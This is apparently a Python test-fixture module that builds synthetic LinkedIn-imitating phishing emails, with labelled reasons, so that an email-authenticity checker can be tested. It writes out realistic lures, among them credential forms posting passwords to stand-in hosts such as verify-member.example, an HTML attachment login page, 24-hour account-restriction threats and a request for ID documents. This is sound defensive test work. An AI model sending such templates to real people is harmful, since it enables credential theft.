"""Mail that only looks like LinkedIn's: what the authenticity checks must catch.

`phishing_email` builds one family of tell-tale signs per kind (a look-alike
domain, homoglyphs, foreign links, a failed DMARC, an HTML attachment, a
foreign Reply-To, a credential harvest), in the full-size style. The parser
fixtures' phishing (`catalogue`) is built by hand, one trick per fixture.
"""

from __future__ import annotations

import base64
import binascii
import re
import unicodedata
from datetime import datetime
from email.utils import format_datetime

from .catalogue import add, item
from .compact import (DASHES, OWNER, OWNER_HEADLINE, STREAM, TRUSTED, Part, assemble, escape_text, genuine_headers,
                      html_part, invitation, text_part, token)
from .layouts import FONT, P, P_LOW, context
from .mime import CRLF, address, alternative, esc, folded_b64, header, qp
from .people import DEFAULT_OWNER, DEFAULT_OWNER_EMAIL, MARIA, TOM, Person, first_name
from .texts import NOTE_MARIA, NOTE_TOM
from .tokens import b64, base36, digits

PHISHING_KINDS = ("lookalike_domain", "homoglyph", "foreign_links", "failed_dmarc", "html_attachment",
                  "reply_to_foreign", "credential_harvest")

_PHISH = {
    "lookalike_domain": "linkedln-mail.com",
    "homoglyph": "lіnkedin.com".encode("idna").decode("ascii"),   # Cyrillic і
    "foreign_links": "thanhdat-logistics.vn",
    "failed_dmarc": "srv-8841.hostpoint-vps.net",
    "html_attachment": "linkedin-secure-mail.com",
    "reply_to_foreign": "talentbridge-careers.com",
    "credential_harvest": "linkedin-accountcheck.com",
}


def phishing_email(kind: str, person: Person, note: str, *, seed: int = 0, owner: str = DEFAULT_OWNER,
                   owner_email: str = DEFAULT_OWNER_EMAIL, owner_headline: str | None = None,
                   generation: str = "mercado", language: str = "en", date: datetime | None = None) -> bytes:
    """Mail that only looks like a LinkedIn invitation; each kind shows one family of tell-tale signs."""
    if kind not in PHISHING_KINDS:
        raise ValueError(f"unknown phishing kind {kind!r}; use one of {PHISHING_KINDS}")
    ctx = context("phishing", (kind, person, note), owner=owner, owner_email=owner_email,
                   owner_headline=owner_headline, generation=generation, language=language, seed=seed, date=date)
    rng = ctx.rng
    domain = _PHISH[kind]
    when = ctx.date
    date_text = format_datetime(when)
    ip = f"{rng.randint(31, 212)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
    bad_host = {"foreign_links": "thanhdat-logistics.vn", "failed_dmarc": "connect-invite.ru",
                "credential_harvest": "www.linkedin.com.account-verify.help",
                "html_attachment": "li-secure-login.com",
                "reply_to_foreign": "www.linkedin.com"}.get(kind, "www." + domain)
    token = b64(rng, 12)

    def link(path: str) -> str:
        if kind == "foreign_links":
            return f"https://{bad_host}/wp-includes/css/li/{path}?id={token}"
        return f"https://{bad_host}/comm/{path}?session={token}"

    accept, view = link("invite-accept"), link("profile")
    intended = f"This email was intended for {owner}" if kind != "credential_harvest" else "This message was sent to ."
    note_html = "<br>".join(esc(line) for line in note.split("\n"))
    subject = {"lookalike_domain": "Invitation to connect on LinkedIn", "homoglyph": "I want to connect",
               "foreign_links": "I want to connect", "failed_dmarc": "Invitation to connect on LinkedIn",
               "html_attachment": "You have 3 pending connection requests",
               "reply_to_foreign": f"{person.first} just messaged you",
               "credential_harvest": f"Action required: confirm that you know {person.name}"}[kind]
    card = (f'<p style="{P};font-size:16px;font-weight:600">{esc(person.name)}</p>'
            f'<p style="{P}">{esc(person.headline)}</p>'
            f'<p class="invitation-message" style="{P};margin-top:12px;padding:12px;background-color:#f3f2f0">'
            f'{note_html}</p>')
    if kind == "credential_harvest":
        card += (f'<p style="{P};margin-top:12px">To keep your account safe, your LinkedIn access has been '
                 'restricted. Confirm your identity within 24 hours to accept pending invitations.</p>')
        buttons = f'<a href="{esc(link("uas/login"))}" style="background:#0a66c2;color:#fff;padding:8px 16px;' \
                  'border-radius:24px">Verify now</a>'
    else:
        buttons = (f'<a href="{esc(accept)}" style="background:#0a66c2;color:#fff;padding:8px 16px;'
                   f'border-radius:24px">Accept</a> <a href="{esc(view)}" style="color:#0a66c2">View profile</a>')
    logo = "https://static.licdn.com/aero-v1/sc/h/" + base36(rng, 25)
    html_doc = (f'<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
                f'<title>{esc(subject)}</title></head><body style="background-color:#f3f2f0;margin:0">'
                f'<table role="presentation" width="512" align="center" style="background:#ffffff;{FONT}">'
                f'<tr><td style="padding:16px 24px"><img src="{logo}" alt="LinkedIn" width="84" height="21"></td></tr>'
                f'<tr><td style="padding:0 24px">{card}</td></tr><tr><td style="padding:16px 24px">{buttons}</td></tr>'
                f'<tr><td style="padding:16px 24px"><p style="{P_LOW}">{esc(intended)}</p>'
                f'<p style="{P_LOW}"><a href="{esc(link("unsubscribe"))}">Unsubscribe</a> &middot; '
                f'<a href="{esc(link("help"))}">Help</a></p><p style="{P_LOW}">&copy; {when.year} LinkedIn '
                'Corporation, 1&zwnj;000 West Maude Avenue, Sunnyvale, CA 94085.</p></td></tr></table></body></html>\n')
    text = (f"{person.name}\n{person.headline}\n\n{note}\n\n"
            + (f"Verify now: {link('uas/login')}\n" if kind == "credential_harvest" else
               f"Accept: {accept}\n\nView profile: {view}\n")
            + "\n" + "-" * 40 + f"\n{intended}\nUnsubscribe: {link('unsubscribe')}\n")
    message_id = f"<{b64(rng, 12).replace('-', 'a').replace('_', 'b')}@{domain}>"
    from_name, from_addr = f"{person.name} via LinkedIn", f"invitations@{domain}"
    return_path = f"bounce+{digits(rng, 6)}@{domain}"
    reply_to = ""
    dkim_domain = domain
    dmarc = f"dmarc=pass (p=NONE sp=NONE dis=NONE) header.from={domain}"
    spf = "pass"
    extra: list[str] = []
    if kind == "lookalike_domain":
        from_name = "LinkedIn"
    elif kind == "homoglyph":
        extra = ["X-LinkedIn-Class: INVITATION", "X-LinkedIn-Template: email_m2m_invite_single_01"]
        message_id = f"<{digits(rng, 10)}.{digits(rng, 6)}.{int(when.timestamp() * 1000)}@ltx1-app" \
                     f"{digits(rng, 5)}.prod.{domain}>"
    elif kind == "foreign_links":
        from_name, from_addr = "LinkedIn Connections", f"no-reply@{domain}"
        return_path = f"wordpress@{domain}"
        dkim_domain = ""
        dmarc = "dmarc=none (p=NONE) header.from=" + domain
    elif kind == "failed_dmarc":
        from_addr = "invitations@linkedin.com"
        return_path = f"www-data@{domain}"
        dkim_domain = ""
        spf = "softfail"
        dmarc = "dmarc=fail (p=REJECT sp=REJECT dis=QUARANTINE) header.from=linkedin.com"
        extra = ["X-Mailer: PHPMailer 6.0.7 (https://github.com/PHPMailer/PHPMailer)"]
        message_id = f"<{b64(rng, 16).replace('-', 'c').replace('_', 'd')}@{domain}>"
    elif kind == "html_attachment":
        from_name, from_addr = "LinkedIn", f"notifications@{domain}"
        dkim_domain = ""
        dmarc = f"dmarc=none (p=NONE) header.from={domain}"
    elif kind == "reply_to_foreign":
        from_addr = "messages-noreply@linkedin.com"
        return_path = f"bounce-{digits(rng, 5)}@em4412.{domain}"
        dmarc = "dmarc=fail (p=REJECT sp=REJECT dis=NONE) header.from=linkedin.com"
        first_last = re.sub(r"[^a-z.]", "", unicodedata.normalize("NFKD", person.name).encode("ascii", "ignore")
                            .decode().lower().replace(" ", ".")) or "recruiter"
        reply_to = address(person.name, f"{first_last}.hr@{domain}")
        message_id = f"<{b64(rng, 14).replace('-', 'e').replace('_', 'f')}@em4412.{domain}>"
    elif kind == "credential_harvest":
        from_name, from_addr = "LinkedIn Security", f"security-noreply@{domain}"
        spf = "softfail"
        dkim_domain = ""
        dmarc = f"dmarc=none (p=NONE) header.from={domain}"
    mail_from = return_path.split("@", 1)[1]
    dkim_text = (f"dkim=pass (2048-bit key) header.d={dkim_domain} header.i=@{dkim_domain} header.b={b64(rng, 6)}"
                 if dkim_domain else "dkim=none (message not signed)")
    headers = [
        f"Return-Path: <{return_path}>",
        f"Delivered-To: {owner_email}",
        f"Received: from {mail_from} ({mail_from} [{ip}]){CRLF}\tby mx.example.org (Postfix) with ESMTP id "
        f"{b64(rng, 8).upper()[:10]}{CRLF}\tfor <{owner_email}>; {date_text}",
        f"Authentication-Results: mx.example.org;{CRLF}\t{dkim_text};{CRLF}"
        f"\tspf={spf} (mx.example.org: domain of {return_path} {'designates' if spf == 'pass' else 'does not designate'}"
        f" {ip} as permitted sender){CRLF}\t smtp.mailfrom={return_path};{CRLF}\t{dmarc}",
    ]
    if dkim_domain:
        headers.append(f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={dkim_domain}; s=default;{CRLF}"
                       f"\tt={int(when.timestamp())}; bh={b64(rng, 32, urlsafe=False)}=;{CRLF}"
                       f"\th=From:To:Subject:Date:Message-ID;{CRLF}\tb={folded_b64(rng, 256)}")
    headers += [f"Date: {date_text}", "From: " + address(from_name, from_addr)]
    if reply_to:
        headers.append("Reply-To: " + reply_to)
    headers += ["To: " + address(owner, owner_email), f"Message-ID: {message_id}",
                header("Subject", subject), "MIME-Version: 1.0", *extra]
    if kind == "failed_dmarc":  # single-part HTML from a PHP mailer, Latin-1 when it fits
        try:
            body = html_doc.replace("charset=utf-8", "charset=iso-8859-1").encode("latin-1")
            charset = "iso-8859-1"
        except UnicodeEncodeError:
            body, charset = html_doc.encode("utf-8", "surrogatepass"), "utf-8"
        encoded = binascii.b2a_qp(body.replace(b"\r\n", b"\n"), istext=True).replace(b"\n", b"\r\n")
        headers += [f"Content-Type: text/html; charset={charset}", "Content-Transfer-Encoding: quoted-printable"]
        return (CRLF.join(headers) + CRLF + CRLF).encode("utf-8") + encoded
    if kind == "html_attachment":
        boundary = f"=_{b64(rng, 16).replace('-', 'x').replace('_', 'y')}"
        headers.append(f'Content-Type: multipart/mixed; boundary="{boundary}"')
        greeting = (f"Hi {first_name(owner)},\n\nYou have 3 pending connection requests on LinkedIn. {person.name} "
                    f"wrote:\n\n{note}\n\nOpen the attached document to view and accept your invitations.\n\n"
                    "LinkedIn Support\n")
        form = (f'<html><body><h2>LinkedIn</h2><p>Sign in to view your invitations</p><form action="https://'
                f'{bad_host}/auth.php" method="post"><input name="email" value="{esc(owner_email)}"><input '
                f'name="password" type="password"><button>Sign in</button></form></body></html>')
        attachment = base64.encodebytes(form.encode("utf-8")).decode("ascii").replace("\n", CRLF)
        body = (f"--{boundary}{CRLF}Content-Type: text/plain; charset=utf-8{CRLF}"
                f"Content-Transfer-Encoding: quoted-printable{CRLF}{CRLF}").encode("ascii") + qp(greeting) + (
            f"{CRLF}--{boundary}{CRLF}Content-Type: text/html; charset=utf-8; name=\"LinkedIn_Invitations.html\"{CRLF}"
            f"Content-Disposition: attachment; filename=\"LinkedIn_Invitations.html\"{CRLF}"
            f"Content-Transfer-Encoding: base64{CRLF}{CRLF}{attachment}--{boundary}--{CRLF}").encode("ascii")
        return (CRLF.join(headers) + CRLF + CRLF).encode("utf-8") + body
    boundary = f"----=_Part_{rng.randint(100000, 9999999)}_{rng.randint(100000000, 2099999999)}.{digits(rng, 13)}"
    headers.append(f'Content-Type: multipart/alternative; {CRLF}\tboundary="{boundary}"')
    return alternative(headers, boundary, text, html_doc, content_ids=kind == "homoglyph")


# --------------------------------------------------------------------------- the phishing fixtures

def phish_headers(from_value: str, subject: str, *, auth: str | None = None, extra: list[str] | None = None,
                  return_path: str = "<bounce@mailer.example>", mid: str = "<20260122101010.abc123@mailer.example>") -> list[str]:
    h = [f"Return-Path: {return_path}",
         f"Received: from mailer.example (unknown [203.0.113.{STREAM.randrange(2, 250)}])\n\tby {TRUSTED} (Postfix) with ESMTP id {token(10)}"]
    if auth:
        h.append(f"Authentication-Results: {TRUSTED};\n\t{auth}")
    h += [f"From: {from_value}", "To: sam.rivera@northwind.example", f"Subject: {subject}",
          "Date: Thu, 22 Jan 2026 10:10:10 +0000", f"Message-ID: {mid}", "MIME-Version: 1.0"]
    return h + (extra or [])


def fake_invitation_html(name: str, headline: str, accept: str, profile: str, unsub: str = "https://mailer.example/u",
                         intended: str = f"This email was intended for {OWNER} ({OWNER_HEADLINE})") -> str:
    return (f"<html><body style='background:#f3f2f0'><table width='512'><tr><td><img src='https://static.licdn.com/aero-v1/sc/h/logo' alt='LinkedIn'></td></tr>"
            f"<tr><td><a href='{profile}'>{escape_text(name)}</a><p>{escape_text(headline)}</p><p>23 connections in common</p></td></tr>"
            f"<tr><td><a href='{accept}' style='background:#0a66c2;color:#fff;border-radius:24px'>Accept</a> "
            f"<a href='{profile}'>View profile</a></td></tr>"
            f"<tr><td><p>{escape_text(intended)}</p><p><a href='{unsub}'>Unsubscribe</a> · <a href='{unsub}'>Help</a></p>"
            f"<p>© 2026 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.</p></td></tr></table></body></html>")


def catalogue() -> None:
    """The phishing fixtures (phish_*): one trick per mail, built by hand."""
    none = "spf=pass smtp.mailfrom=mailer.example; dkim=none; dmarc=none"
    lure = ("Maria Lopez", "Product Designer at Brightloom")

    m = fake_invitation_html(*lure, "http://linkedln.com.profile-check.example.vn/accept?id=8812",
                             "http://linkedln.com.profile-check.example.vn/in/maria")
    add("phish_linkedln_html_latin1", assemble(phish_headers("LinkedIn <invitations@linkedln.com>", "Invitation to connect on LinkedIn",
        auth=none, extra=["X-Mailer: PHPMailer 6.1.4 (https://github.com/PHPMailer/PHPMailer)"]),
        [html_part(m, "ISO-8859-1")]), kind="invitation", suspicious=True,
        reasons=["linkedln.com imitates linkedin.com", "button \"Accept\" links to linkedln.com.profile-check.example.vn",
                 "no dkim=pass for linkedin.com"],
        items=[item("invitation", name="Maria Lopez", headline="Product Designer at Brightloom", mutual=23, profile=None)])

    text = ("Maria Lopez\nProduct Designer at Brightloom\n23 connections in common\n\n"
            "Accept: https://linkedin-mail.com/invite/accept?u=sam\n\nView profile: https://linkedin-mail.com/in/maria\n")
    add("phish_linkedin_mail_com", assemble(phish_headers("LinkedIn Invitations <no-reply@linkedin-mail.com>", "I want to connect"),
        [text_part(text), html_part(fake_invitation_html(*lure, "https://linkedin-mail.com/invite/accept?u=sam",
                                                         "https://linkedin-mail.com/in/maria"))]),
        kind="invitation", suspicious=True, reasons=["linkedin-mail.com imitates linkedin.com", "linkedin-mail.com, not LinkedIn"])

    raw = assemble(phish_headers("LinkedIn <invitations@lіnkedin.com>", "Tom Becker wants to connect"),
                   [html_part(fake_invitation_html("Tom Becker", "CTO", "https://xn--lnkedin-rog.com/a", "https://xn--lnkedin-rog.com/p"))])
    add("phish_cyrillic_domain_utf8_header", raw, kind="invitation", suspicious=True,
        reasons=["look-alike letters"], notes="raw UTF-8 From with a Cyrillic і")

    add("phish_punycode_domain", assemble(phish_headers("LinkedIn Security <security@xn--lnkedin-rog.com>",
        "Your LinkedIn account has been restricted"),
        [text_part("Dear member,\n\nYour account has been restricted due to unusual sign-in activity.\n"
                   "Verify your account within 24 hours: https://xn--lnkedin-rog.com/verify\n\nLinkedIn Trust & Safety\n")]),
        kind="other", suspicious=True, reasons=["shows as lіnkedin.com", "asks for credentials"])

    text, markup = invitation(TOM, "en", NOTE_TOM, "mercado")
    headers = genuine_headers(from_display=TOM.name, from_addr="invitations@linkedin.com", subject="I want to connect",
                              tpl="m2m_invite_single_01", auth=False)
    headers = [h for h in headers if not h.startswith("Return-Path")]
    headers.insert(0, "Return-Path: <root@vps-4412.hosting.example>")
    headers.insert(1, f"Authentication-Results: {TRUSTED};\n\tdkim=fail (signature did not verify) header.d=linkedin.com;\n"
                      f"\tspf=fail smtp.mailfrom=linkedin.com; dmarc=fail (p=REJECT sp=REJECT) header.from=linkedin.com")
    add("phish_exact_spoof_dmarc_fail", assemble(headers, [text_part(text), html_part(markup)]),
        kind="invitation", suspicious=True,
        reasons=["reports dkim=fail", "reports dmarc=fail", "Return-Path <root@vps-4412.hosting.example>"],
        items=[item("invitation", TOM, NOTE_TOM, location=TOM.location)],
        notes="looks exactly like a genuine invitation; only the trusted server's verdict and the bounce address give it away")

    markup = fake_invitation_html(*lure, "https://connect-linkedin.secure-portal.example/accept?id=1",
                                  "https://www.linkedin.com/in/maria-lopez-bl")
    add("phish_foreign_buttons_forged_auth", assemble(
        phish_headers("Maria Lopez <invitations@linkedin.com>", "I want to connect", return_path="<s-abc@bounce.linkedin.com>",
                      extra=["Authentication-Results: mx.attacker.example; dkim=pass header.d=linkedin.com; dmarc=pass"],
                      mid="<1.2.1737544486000@ltx1-app1.prod.linkedin.com>"),
        [html_part(markup)]), kind="invitation", suspicious=True,
        reasons=["button \"Accept\" links to connect-linkedin.secure-portal.example"],
        notes="Authentication-Results from an untrusted server claim a pass and are ignored")

    body = ("Staff Platform Engineer role\nStaff Platform Engineer role\n\n      Priya Nair\n        Reply\n"
            "        https://www.linkedin.com/messaging/thread/2-abc==/\n\nHi Sam,\n\nPlease send your CV and a copy of your ID "
            "to my personal address so I can fast-track you.\n\nPriya\n" + DASHES + "\nYou are receiving LinkedIn notification emails.\n")
    add("phish_reply_to_freemail", assemble(phish_headers("Priya Nair via LinkedIn <hit-reply@linkedin.com>",
        "Staff Platform Engineer role", return_path="<m-abc@bounce.linkedin.com>",
        extra=["Reply-To: Priya Nair <priya.nair.recruits@freemail.example>"], mid="<7.8.1737544486000@ltx1-app2.prod.linkedin.com>"),
        [text_part(body)]), kind="inmail", suspicious=True,
        reasons=["Reply-To priya.nair.recruits@freemail.example is not on linkedin.com"])

    add("phish_account_restricted", assemble(phish_headers("LinkedIn Security <security-noreply@linkedin-support.com>",
        "Action required: your account will be suspended", auth=none),
        [html_part("<html><body><p>Dear user,</p><p>Your account will be suspended. Verify your account within 24 hours "
                   "to avoid losing access.</p><p><a href='https://linkedin-support.com/login'>Sign in to LinkedIn</a></p>"
                   "<p>This message was sent to sam.rivera@northwind.example.</p></body></html>")]),
        kind="other", suspicious=True, reasons=["linkedin-support.com imitates linkedin.com", "asks for credentials"])

    attach = Part("text/html", base64.encodebytes(b"<html><form action='https://collect.example/p'><input type=password></form></html>"),
                  "", "base64", "", "Pending_Invitations.html")
    add("phish_html_attachment", assemble(phish_headers("LinkedIn Connections <linkedin.connections.team@freemail.example>",
        "You have 4 pending invitations"),
        [text_part("You have 4 pending invitations on LinkedIn.\nOpen the attached file to review them before they expire.\n"),
         attach], multipart="multipart/mixed"), kind="invitation", suspicious=True,
        reasons=["From domain freemail.example is not linkedin.com", "dangerous attachment: Pending_Invitations.html"], items=[])

    zip_part = Part("application/zip", base64.encodebytes(b"PK\x03\x04" + bytes(range(60))), "", "base64", "", "invoice_LinkedIn_Premium.zip")
    add("phish_zip_attachment", assemble(phish_headers("LinkedIn Premium <billing@linkedin.com.account-review.info>",
        "Your LinkedIn Premium invoice"),
        [text_part("Your LinkedIn Premium invoice is attached.\n"), zip_part], multipart="multipart/mixed"),
        kind="other", suspicious=True, reasons=["linkedin.com.account-review.info imitates linkedin.com", "invoice_LinkedIn_Premium.zip"])

    add("phish_display_name_address", assemble(phish_headers('"invitations@linkedin.com" <maria.lopez.design@freemail.example>',
        "Maria Lopez wants to connect"),
        [html_part(fake_invitation_html(*lure, "https://bit.example/abc", "https://bit.example/abc"))]),
        kind="invitation", suspicious=True, reasons=["display name \"invitations@linkedin.com\" shows an address on linkedin.com"])

    add("phish_subject_only_freemail", assemble(phish_headers("Sarah Connor <sarah.connor.1984@freemail.example>",
        "Invitation to connect on LinkedIn"),
        [text_part("Sarah Connor\nHead of Partnerships\n\nHi Sam, I'd like to add you to my professional network on LinkedIn.\n\n"
                   "Accept: http://sarah-connor.freemail.example/linkedin/accept\n\n"
                   "View profile: http://sarah-connor.freemail.example/linkedin/profile\n")]),
        kind="invitation", suspicious=True, reasons=["From domain freemail.example is not linkedin.com"],
        notes="claims LinkedIn only through its subject and body")

    text, markup = invitation(MARIA, "en", NOTE_MARIA, "mercado")
    blank = text.replace(f"This email was intended for {OWNER} ({OWNER_HEADLINE})", "This message was sent to .")
    markup = markup.replace(escape_text(f"This email was intended for {OWNER} ({OWNER_HEADLINE})"), "This message was sent to .")
    add("phish_broken_merge_field", assemble(phish_headers("Maria Lopez <invitations@linkedin.com>", "I want to connect",
        return_path="<s-abc@bounce.linkedin.com>", mid="<3.4.1737544486000@ltx1-app3.prod.linkedin.com>"),
        [text_part(blank), html_part(markup)]), kind="invitation", suspicious=True,
        reasons=["the footer names no recipient"])

    other = text.replace(f"This email was intended for {OWNER} ({OWNER_HEADLINE})", "This email was intended for Alex Morgan (CFO at Quillstack)")
    add("phish_intended_for_someone_else", assemble(phish_headers("Maria Lopez <invitations@linkedin.com>", "I want to connect",
        return_path="<s-abc@bounce.linkedin.com>", mid="<5.6.1737544486000@ltx1-app4.prod.linkedin.com>"),
        [text_part(other)]), kind="invitation", suspicious=True,
        reasons=["intended for \"Alex Morgan\", not the mailbox owner"], intended_for="Alex Morgan")

    add("phish_lnkd_redirect", assemble(phish_headers("LinkedIn Team <team@notify-members.example>",
        "You appeared in 9 searches this week"),
        [html_part("<html><body><p>You appeared in 9 searches this week.</p><p><a href='https://lnkd.in/eXaMpLe'>See who's looking</a></p>"
                   "<p><a href='https://www.linkedin.com/slink?code=Ab12Cd34'>View all</a></p></body></html>")]),
        kind="other", suspicious=True, reasons=["redirector lnkd.in", "From domain notify-members.example is not linkedin.com"])

    add("phish_homoglyph_display", assemble(phish_headers("=?UTF-8?B?" + base64.b64encode("Lіnkedln".encode()).decode() + "?= <info@news-mailer.example>",
        "New message from Tom Becker"),
        [html_part("<html><body><p>Tom Becker</p><p>CTO at Kestrel Analytics</p>"
                   "<p><a href='https://news-mailer.example/msg'>View message</a></p></body></html>")]),
        kind="message", suspicious=True, reasons=["imitates LinkedIn with look-alike letters"])

    add("phish_credential_form", assemble(phish_headers("LinkedIn <noreply@linkedin.com>", "Confirm your identity to keep your account",
        return_path="<noreply@linkedin.com>", mid="<9.9.1737544486000@ltx1-app9.prod.linkedin.com>"),
        [html_part("<html><body><p>We noticed unusual sign-in activity. Confirm your identity below.</p>"
                   "<form action='https://verify-member.example/collect' method='post'><input name='email'>"
                   "<input type='password' name='password'><button>Confirm</button></form></body></html>")]),
        kind="other", suspicious=True, reasons=["a form sends what is typed to verify-member.example"])
